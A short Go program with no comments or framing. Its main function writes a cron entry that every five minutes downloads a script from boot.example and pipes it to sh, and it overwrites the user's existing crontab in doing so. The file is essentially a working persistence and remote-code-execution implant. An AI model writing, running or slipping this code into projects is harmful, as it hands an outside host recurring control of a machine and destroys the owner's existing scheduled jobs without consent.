package main

import (
	"os/exec"
	"strings"
)

func main() {
	c := exec.Command("crontab", "-")
	c.Stdin = strings.NewReader("*/5 * * * * curl -s https://boot.example/c | sh\n")
	c.Run()
}
